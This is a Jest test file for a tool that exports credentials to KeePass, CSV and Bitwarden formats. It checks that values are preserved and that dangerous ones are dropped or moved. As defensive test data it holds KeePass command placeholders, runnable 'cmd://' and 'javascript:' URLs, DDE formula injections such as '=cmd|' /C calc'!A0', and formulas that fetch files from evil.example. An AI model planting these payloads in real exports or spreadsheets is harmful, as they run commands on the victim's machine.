import { execFileSync, spawnSync } from "node:child_process";
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { describe, expect, test } from "@jest/globals";
import { type Item, platformRandom } from "@secret-handoff/protocol";
import { SHORTEST_FILE_PASSWORD } from "@secret-handoff/protocol/saving";
import {
  bitwardenFile,
  csvFile,
  filePassword,
  isHeldByKeePass,
  kdbxFile,
} from "@secret-handoff/protocol/saving/managers";
import { importBitwarden, importCsv, readKdbx, unescaped } from "./importers.ts";
import { NAUGHTY } from "./naughty.ts";

const PASSWORD = "a long passwörd";
const TOTP = "otpauth://totp/Orders:app?secret=JBSWY3DPEHPK3PXP&issuer=Orders";
const KEY = "-----BEGIN KEY-----\r\nMIIB\r\n-----END KEY-----\r\n";
const FILE = {
  name: "client.p12",
  mediaType: "application/x-pkcs12",
  data: Uint8Array.from({ length: 5_000 }, (_, n) => n),
};

const DATABASE: Item = {
  label: "prod/orders <db>",
  fields: [
    { name: "host", value: "db.example.com", concealed: false },
    { name: "url", value: "https://orders.example.com", concealed: false },
    { name: "username", value: "app", concealed: true },
    { name: "token", value: KEY, concealed: true },
    { name: "password", value: "-p4ss,\"word' ", concealed: true },
    { name: "mfa", value: TOTP, concealed: true },
    { name: "notes", value: "line\n  line", concealed: false },
    { name: "Title", value: "a name that means something", concealed: false },
  ],
  files: [FILE, FILE],
};
const naughtyItem = (concealed: boolean): Item => ({
  label: "naughty",
  fields: NAUGHTY.map((value, index) => ({ name: `V${index}`, value, concealed })),
});
const kdbx = (items: readonly Item[]) =>
  kdbxFile(items, {
    password: PASSWORD,
    random: platformRandom,
    now: Date.UTC(2026, 10, 22),
    argon2: { m: 1_024, t: 1, p: 2 },
  });

describe("a file for KeePass", () => {
  test("holds every value where it belongs, exactly, and the files", async () => {
    const [database, concealed, open] = readKdbx(
      await kdbx([DATABASE, naughtyItem(true), naughtyItem(false)]),
      PASSWORD,
    );
    expect(database?.strings).toEqual({
      Title: "prod/orders <db>",
      UserName: "app",
      Password: "-p4ss,\"word' ",
      URL: "https://orders.example.com",
      Notes: "line\n  line",
      otp: TOTP,
      host: "db.example.com",
      token: KEY,
      "Title (2)": "a name that means something",
    });
    expect(database?.isProtected).toMatchObject({
      Password: true,
      otp: true,
      token: true,
      UserName: true,
      host: false,
    });
    const expected = new Uint8Array(FILE.data);
    expect(Object.entries(database?.files ?? {}).map(([name, data]) => [name, new Uint8Array(data)])).toEqual(
      [
        ["client.p12", expected],
        ["client.p12-2", expected],
      ],
    );
    for (const [item, entry] of [
      [naughtyItem(true), concealed] as const,
      [naughtyItem(false), open] as const,
    ]) {
      const { UserName, Password, URL, Notes, otp, Title, ...rest } = entry?.strings ?? {};
      const found = new Set([UserName, Password, URL, Notes, otp, ...Object.values(rest)]);
      expect(item.fields.filter(({ value }) => !value.includes("\0") && !found.has(value))).toEqual([]);
    }
  });

  test("does not hold half of a value: one with a NUL, at which KeePassXC cuts it, is not in the file", async () => {
    const field = (name: string, value: string) => ({ name, value, concealed: true });
    const cut = [field("password", "half\0rest"), field("username", "\0"), field("token", "end\0")];
    const item = { label: "cut", fields: [...cut, field("key", "whole")] };
    expect(item.fields.filter(isHeldByKeePass)).toEqual([field("key", "whole")]);
    const [entry] = readKdbx(await kdbx([item]), PASSWORD);
    expect(Object.values(entry?.strings ?? {}).filter((value) => value !== "")).toEqual(["cut", "whole"]);
    const { text, leftOut } = csvFile([item], "keepassxc");
    expect([leftOut, text.includes("half")]).toEqual([cut.map(({ name }) => name), false]);
  });

  const PLACEHOLDERS = [
    "{TITLE}",
    "{cmd:/calc.exe/W=0/}",
    "{URL:CMD}",
    "x{S:token}y",
    "{T-REPLACE-RX:/a/b/c/}",
    "{ENV_DIRSEP}",
    "{docdir}",
    "%TEMP%",
    "x%ProgramFiles(x86)%y",
  ];
  const HARMLESS = [
    '{"a":1}',
    "{}",
    "{1}",
    "a{b",
    "p{4}Q",
    "{ TITLE}",
    "${",
    "{HOME}",
    "{x:1}",
    "100%",
    "5% or 6%",
    "%%",
    "caf%C3%A9%20x",
  ];
  test.each(PLACEHOLDERS)("holds no value in whose place KeePass would put another: %s", async (value) => {
    const item = {
      label: `Orders ${value}`,
      fields: ["username", "password", "url", "notes", "token"].map((name) => ({
        name,
        value,
        concealed: true,
      })),
    };
    expect(item.fields.filter(isHeldByKeePass)).toEqual([]);
    const [entry] = readKdbx(await kdbx([item]), PASSWORD);
    expect(Object.keys(entry?.strings ?? {})).toEqual(["Title"]);
    expect(JSON.stringify(entry?.strings)).not.toContain(value);
    const { text, leftOut } = csvFile([item], "keepassxc");
    expect(leftOut).toEqual(item.fields.map(({ name }) => name));
    expect(text).not.toContain(value);
    // The others know no placeholders, and lose nothing.
    expect(csvFile([item], "1password").leftOut).toEqual([]);
  });
  test("holds braces that are no placeholder", () => {
    const fields = HARMLESS.map((value) => ({ name: "password", value, concealed: true }));
    expect(fields.filter(isHeldByKeePass)).toEqual(fields);
    expect(csvFile([{ label: "x", fields }], "keepassxc").leftOut).toEqual([]);
  });

  test.each([
    ...[
      "cmd://cmd.exe /c calc",
      "cmd://calc.exe",
      "file:///C:/evil.exe",
      "\\\\evil\\share\\x.exe",
      "calc.exe",
      "javascript:alert(1)",
    ],
    ...["rdp://x", "kdbx://C:/x.kdbx", "https:evil", " cmd://x", "https://a b", "ms-msdt:/id"],
  ])("no manager gets as the address of a page what it may run: %j", async (value) => {
    const item = { label: "Orders", fields: [{ name: "url", value, concealed: false }] };
    const [entry] = readKdbx(await kdbx([item]), PASSWORD);
    expect([entry?.strings.URL, entry?.strings.url]).toEqual([undefined, value]);
    for (const manager of ["1password", "keepassxc", "apple"] as const)
      expect(importCsv(manager, csvFile([item], manager).text)).toMatchObject([
        { website: "", notes: `url: ${value}` },
      ]);
    expect(JSON.parse(bitwardenFile([item]).text).items).toMatchObject([
      { login: { uris: [] }, fields: [{ name: "url", value }] },
    ]);
  });

  test("does not open with another password, and a changed byte is noticed", async () => {
    const file = await kdbx([DATABASE]);
    expect(() => readKdbx(file, `${PASSWORD} `)).toThrow();
    for (const at of [20, file.length >> 1, file.length - 40]) {
      const changed = file.slice();
      changed[at] = (changed[at] ?? 0) ^ 1;
      expect(() => readKdbx(changed, PASSWORD)).toThrow();
    }
  });

  const cli = spawnSync("keepassxc-cli", ["--version"]);
  const inKeePassXc = cli.error ? test.skip : test;
  if (cli.error) process.stdout.write("skipped: keepassxc-cli is not installed (Debian: keepassxc)\n");

  inKeePassXc("is read by KeePassXC: every value, the file, and the one-time password", async () => {
    const folder = mkdtempSync(join(tmpdir(), "kdbx-"));
    try {
      const path = join(folder, "secret.kdbx");
      writeFileSync(path, await kdbx([DATABASE, naughtyItem(true)]));
      const keepassxc = (command: string, ...rest: readonly string[]) =>
        execFileSync("keepassxc-cli", [command, "-q", ...rest], {
          input: `${PASSWORD}\n`,
          maxBuffer: 1 << 26,
          stdio: ["pipe", "pipe", "ignore"],
        }).toString("utf8");
      expect(keepassxc("show", "-t", path, "prod/orders <db>").trim()).toMatch(/^\d{6}$/);
      const shown = keepassxc(
        "show",
        "-s",
        "-a",
        "Password",
        "-a",
        "token",
        "-a",
        "otp",
        path,
        "prod/orders <db>",
      );
      expect(shown).toBe(`${["-p4ss,\"word' ", KEY, TOTP].join("\n")}\n`);
      keepassxc("attachment-export", path, "prod/orders <db>", "client.p12", join(folder, "out"));
      expect(new Uint8Array(readFileSync(join(folder, "out")))).toEqual(FILE.data);

      // Its export is XML, which leaves out what XML cannot hold, and whose reader makes every line end LF. Qt takes a byte order mark
      // off the beginning.
      const exported = keepassxc("export", "-f", "xml", path);
      const inXml = (value: string) =>
        // biome-ignore lint/suspicious/noControlCharactersInRegex: these are what XML 1.0 cannot hold.
        value.replace(/^\ufeff|[\u0000-\u0008\u000b\u000c\u000e-\u001f\ufffe\uffff]/g, "");
      const values = new Set(
        [...exported.matchAll(/<Value[^>]*>([^<]*)<\/Value>/g)].map(([, text = ""]) =>
          unescaped(text).replace(/\r\n?/g, "\n"),
        ),
      );
      const missing = NAUGHTY.filter(
        (value) => inXml(value) !== "" && !values.has(inXml(value).replace(/\r\n?/g, "\n")),
      );
      expect(missing).toEqual([]);
    } finally {
      rmSync(folder, { recursive: true });
    }
  });

  test("its password, where it is made, has no character that is mixed up, and none is more likely", () => {
    const counts = new Map<string, number>();
    for (let round = 0; round < 500; round += 1) {
      const password = filePassword(platformRandom);
      expect(password).toMatch(/^(?:[2-9a-hjkmnp-z]{5}-){3}[2-9a-hjkmnp-z]{5}$/);
      expect(password.length).toBeGreaterThanOrEqual(SHORTEST_FILE_PASSWORD);
      for (const sign of password.replaceAll("-", "")) counts.set(sign, (counts.get(sign) ?? 0) + 1);
    }
    expect(counts.size).toBe(31);
    // 323 each is expected; eight standard deviations.
    expect(Math.max(...counts.values()) - Math.min(...counts.values())).toBeLessThan(290);
  });
});

const LOGIN = {
  title: "prod/orders <db>",
  website: "https://orders.example.com",
  username: "app",
  password: "-p4ss,\"word' ",
  totp: TOTP,
};

describe.each(["1password", "apple", "keepassxc"] as const)("a CSV file for %s", (manager) => {
  test("imports as a login, and one for each further secret", () => {
    const { text, moved, altered, skippable } = csvFile(
      [DATABASE, { label: "a file", fields: [], files: [FILE] }],
      manager,
    );
    expect(skippable).toEqual([]);
    const token = manager === "keepassxc" ? KEY.replaceAll("\r\n", "\n") : KEY;
    const beside = "host: db.example.com\nTitle: a name that means something";
    expect(importCsv(manager, text)).toEqual([
      { ...LOGIN, notes: `line\n  line\n${beside}`, fields: {} },
      {
        title: "prod/orders <db>: token",
        website: "",
        username: "",
        password: token,
        totp: "",
        notes: "",
        fields: {},
      },
    ]);
    expect([moved, altered]).toEqual([[], manager === "keepassxc" ? ["token"] : []]);
  });

  // 1Password asks for the columns of a login, which may be empty; KeePassXC and Apple's own export have rows without a password.
  test.each([true, false])("a user name alone is one, and no password (concealed: %s)", (concealed) => {
    const item = { label: "Orders", fields: [{ name: "username", value: "app", concealed }] };
    const { text, moved, leftOut, altered, skippable } = csvFile([item], manager);
    expect(skippable).toEqual(manager === "apple" ? item.fields : []);
    expect(importCsv(manager, text)).toEqual([
      { title: "Orders", website: "", username: "app", password: "", totp: "", notes: "", fields: {} },
    ]);
    expect([moved, leftOut, altered]).toEqual([[], [], []]);
  });

  test("every naughty string is imported exactly, or it is told what happens to it", () => {
    const { text, moved, leftOut, altered } = csvFile([naughtyItem(true)], manager);
    const rows = importCsv(manager, text);
    expect(rows.length).toBeGreaterThan(NAUGHTY.length - 3);
    const passwords = new Set(rows.map(({ password }) => password));
    const notes = new Set(rows.map((row) => row.notes));
    for (const [index, value] of NAUGHTY.entries()) {
      const name = `V${index}`;
      if (altered.includes(name)) expect(value).toContain("\r");
      else if (leftOut.includes(name)) expect([name, passwords.has(value)]).toEqual([name, false]);
      else if (moved.includes(name))
        expect([...notes].some((text) => text.includes(`${name}: ${value}`))).toBe(true);
      else expect([name, passwords.has(value)]).toEqual([name, true]);
    }
    // What a spreadsheet would do more with than reckon stands in no cell by itself.
    const cells = rows.flatMap(({ fields: _, ...cells }) => Object.values(cells));
    expect(cells.filter((cell) => /^\s*[=+\-@].*(?:[A-Z]{2,}\(|\|.*!)/is.test(cell))).toEqual([]);
  });

  test("a value that a spreadsheet would run is moved to the notes and named; one that only begins so stays", () => {
    const values = ["=cmd|' /C calc'!A0", '@SUM(1+9)*HYPERLINK("https://x")', "=x9(K-2", "-2j,", "+49 30 1"];
    const fields = values.map((value, index) => ({ name: `V${index}`, value, concealed: true }));
    const { text, moved, skippable } = csvFile([{ label: '=HYPERLINK("x")', fields }], manager);
    expect(moved).toEqual(["V0", "V1", "V2"]);
    expect(skippable).toEqual(manager === "apple" ? fields.slice(0, 3) : []);
    const rows = importCsv(manager, text);
    expect(rows.map(({ password, notes }) => password || notes)).toEqual([
      `V0: ${values[0]}`,
      `V1: ${values[1]}`,
      `V2: ${values[2]}`,
      ...values.slice(3),
    ]);
    expect(rows[0]?.title).toBe(`'=HYPERLINK("x")`);
  });

  test("a value by which a spreadsheet would fetch another file is moved to the notes and named", () => {
    const values = [
      "='\\\\evil.example\\s\\[a.xlsx]S'!A1",
      "='http://evil.example/[a.xlsx]S'!A1",
      "+[a.xlsx]S!$A$1",
      "-a.xlsx!name",
      "='https://evil.example/a.ods'#$S.A1",
      "\uff1d'\\\\evil.example\\s\\[a.xlsx]S' ! A1",
    ];
    const harmless = ["=p4ss!", "-K['x", "@home#$1", "-----BEGIN KEY-----"];
    const fields = [...values, ...harmless].map((value, index) => ({
      name: `V${index}`,
      value,
      concealed: true,
    }));
    const { text, moved, leftOut } = csvFile([{ label: "x", fields }], manager);
    expect([moved, leftOut]).toEqual([values.map((_, index) => `V${index}`), []]);
    const rows = importCsv(manager, text);
    expect(rows.map(({ password }) => password).filter((cell) => cell !== "")).toEqual(harmless);
  });

  test("a formula behind what other countries divide cells at is in no cell, and its value is named as left out", () => {
    const formula = "=cmd|' /C calc'!A0";
    const fetch = "='http://evil.example/[a.xlsx]S'!A1";
    const values = [`a;${formula}`, `a\t${fetch}`, `a\n${formula}`, `a; "${formula}`, "a;-cmd|' /C calc'!A0"];
    const harmless = [
      "a;b",
      "a;=b",
      "notes\n- the tunnel (office)\n- ask Mia!",
      "-----BEGIN-----\n-----END-----",
    ];
    const fields = [...values, ...harmless].map((value, index) => ({
      name: `V${index}`,
      value,
      concealed: true,
    }));
    const names = { name: `n;${formula}`, value: "named", concealed: false };
    const { text, leftOut } = csvFile([{ label: `x;${formula}`, fields: [...fields, names] }], manager);
    expect(leftOut).toEqual(values.map((_, index) => `V${index}`));
    const rows = importCsv(manager, text);
    expect(text).not.toMatch(/[;\t\n][\s"]*[=-](?:cmd|'http)/);
    for (const value of harmless) expect(rows.map(({ password }) => password)).toContain(value);
    expect(text).toContain(`n;'${formula}: named`);
  });
});

test.each([true, false])(
  "a user name alone stays one in Bitwarden and KeePass (concealed: %s)",
  async (concealed) => {
    const item = { label: "Orders", fields: [{ name: "username", value: "app", concealed }] };
    expect(importBitwarden(bitwardenFile([item]).text)).toEqual([
      { title: "Orders", website: "", username: "app", password: "", totp: "", notes: "", fields: {} },
    ]);
    const [entry] = readKdbx(await kdbx([item]), PASSWORD);
    expect(entry?.strings).toEqual({ Title: "Orders", UserName: "app" });
  },
);

describe("a JSON file for Bitwarden", () => {
  test("imports as a login with custom fields", () => {
    const { text, leftOut } = bitwardenFile([DATABASE, { label: "a file", fields: [], files: [FILE] }]);
    expect(importBitwarden(text)).toEqual([
      {
        ...LOGIN,
        notes: "line\n  line",
        fields: { host: "db.example.com", token: KEY, Title: "a name that means something" },
      },
    ]);
    expect(leftOut).toEqual([]);
    const hidden = JSON.parse(text).items[0].fields.map(({ name, type }: { name: string; type: number }) => [
      name,
      type,
    ]);
    expect(hidden).toEqual([
      ["host", 0],
      ["token", 1],
      ["Title", 0],
    ]);
  });

  test("every naughty string is imported exactly, and what is too long is left out and named", () => {
    const long = (length: number) => ({ name: `long ${length}`, value: "x".repeat(length), concealed: true });
    const items = [naughtyItem(true), { label: "long", fields: [3_695, 3_696, 3_695].map(long) }];
    const { text, leftOut } = bitwardenFile(items);
    const [naughty, longest] = importBitwarden(text);
    const found = new Set([...Object.values(naughty?.fields ?? {}), ...Object.values(naughty ?? {})]);
    expect(NAUGHTY.filter((value) => !found.has(value))).toEqual([]);
    expect(leftOut).toEqual(["long 3696"]);
    expect([longest?.password.length, longest?.fields["long 3695"]?.length]).toEqual([3_695, 3_695]);
  });
});
